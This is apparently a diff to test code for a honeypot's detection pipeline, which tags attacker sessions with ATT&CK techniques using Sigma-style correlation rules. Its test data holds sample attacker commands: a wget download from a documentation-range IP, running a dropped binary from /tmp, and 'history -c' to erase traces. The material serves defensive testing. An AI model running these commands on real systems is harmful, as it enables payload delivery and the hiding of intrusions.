@@ -37,6 +37,9 @@ FAILED = LoginAttempt(service="ssh", username="root", password="x", success=Fals
 PAYLOADS = st.sampled_from(
     [
         WGET,
+        CommandRun(service="ssh", command="chmod +x x; /tmp/x"),
+        CommandRun(service="ssh", command="pkill -9 x; history -c"),
+        LoginAttempt(service="ssh", username="root", success=True, method="publickey", public_key="SHA256:k"),
         CommandRun(service="ssh", command="uname -a; id"),
         *[LoginAttempt(service="ssh", username=name, password="x", success=False) for name in "abcdefg"],
         *[HttpRequest(method="GET", target=f"/{page}", status=404) for page in range(4)],
@@ -95,6 +98,66 @@ def test_tables_and_notices_do_not_depend_on_batches(
     database.rollback()
 
 
+SEQUENCE = """\
+title: Step %d
+id: 00000000-0000-4000-8000-00000000000%d
+name: step%d
+logsource: {product: decnet, category: session.command}
+detection: {selection: {command|contains: step%d}, condition: selection}
+"""
+STEPS = "---\n".join(SEQUENCE % (n, n, n, n) for n in (1, 2))
+ORDER = """\
+---
+title: In order
+id: 00000000-0000-4000-8000-000000000003
+name: in_order
+tags: [attack.t1105]
+correlation: {type: temporal_ordered, rules: [step1, step2], group-by: [session], timespan: 1m}
+"""
+TWICE = """\
+---
+title: In order twice
+id: 00000000-0000-4000-8000-000000000004
+tags: [attack.t1105]
+correlation:
+  {type: value_count, rules: [in_order], group-by: [decky], timespan: 1h, condition: {field: session, gte: 2}}
+"""
+
+
+def run_commands(stored: Stored, *commands: str, first: int = 1, session: str = "s") -> list[StoredEvent]:
+    return [
+        stored(first + n, CommandRun(service="ssh", command=command), session=session)
+        for n, command in enumerate(commands)
+    ]
+
+
+def test_one_event_is_not_two_steps_of_a_sequence(
+    connection: Connection, stored: Stored, library_of: Callable[[str], Library]
+) -> None:
+    library = library_of(STEPS + ORDER)
+    assert library.refused == ()
+    look(connection, [run_commands(stored, "step1 step2", "step2", "step2", "step1")], library)
+    assert [tag.seq for tag in tags(connection)] == [2]
+
+
+def test_a_correlation_counts_another_and_the_counted_one_is_silent(
+    connection: Connection, stored: Stored, library_of: Callable[[str], Library]
+) -> None:
+    library = library_of(STEPS + ORDER + TWICE)
+    assert library.refused == ()
+    first, second = (run_commands(stored, "step1", "step2", first=1 + 2 * n, session=f"s{n}") for n in range(2))
+    look(connection, [first, second], library)
+    assert [(tag.seq, tag.title) for tag in tags(connection)] == [(4, "In order twice")]
+
+
+def test_an_event_without_the_field_of_the_group_is_not_counted(
+    connection: Connection, stored: Stored, library_of: Callable[[str], Library]
+) -> None:
+    events = [stored(n, CommandRun(service="ssh", command=f"step{n}")) for n in (1, 2)]
+    rows, _ = look(connection, [events], library_of(STEPS + ORDER))
+    assert (rows["ttp_tag"], rows["ttp_window"]) == ([], [])
+
+
 def test_the_same_events_again_change_nothing(connection: Connection, stored: Stored) -> None:
     events = [stored(1, WGET), stored(2, WGET, session="s")]
     assert look(connection, [events]) == look(connection, [events])
@@ -122,6 +185,19 @@ def test_one_notice_per_session_and_else_per_day(connection: Connection, stored:
         (None, 0),
         (None, DAY),
     ]
+
+
+def test_a_notice_carries_the_action_and_the_event(connection: Connection, stored: Stored) -> None:
+    commands = [CommandRun(service="ssh", command=f"echo {n}") for n in range(9)]
+    _, outbox = look(connection, [[stored(7, folded([*commands, WGET]), session="s")]])
+    (told,) = [n for n in outbox.values() if isinstance(n, TechniqueTagged) and n.rule == str(DOWNLOAD)]
+    assert (told.event, told.action) == (str(UUID(int=7)), "$ wget http://198.51.100.7/x")
+
+
+def test_the_action_in_a_notice_is_bounded(connection: Connection, stored: Stored) -> None:
+    long = CommandRun(service="ssh", command="wget http://198.51.100.7/" + "x" * 5000)
+    _, outbox = look(connection, [[stored(1, long)]])
+    assert {len(notice.action) for notice in outbox.values() if isinstance(notice, TechniqueTagged)} == {1024}
 
 
 def test_nobodys_events_are_not_tagged(connection: Connection, stored: Stored) -> None:
